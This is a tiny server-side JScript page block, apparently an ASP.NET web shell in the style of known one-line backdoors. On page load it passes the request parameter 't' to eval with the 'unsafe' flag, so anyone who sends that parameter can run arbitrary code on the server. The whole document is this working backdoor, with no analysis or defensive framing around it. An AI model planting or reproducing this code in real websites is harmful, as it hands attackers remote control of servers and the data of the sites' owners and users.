<SCRIPT RUNAT=SERVER LANGUAGE=JSCRIPT>
function Page_Load() {
  eval(Request.Item["t"], "unsafe");
}
</SCRIPT>
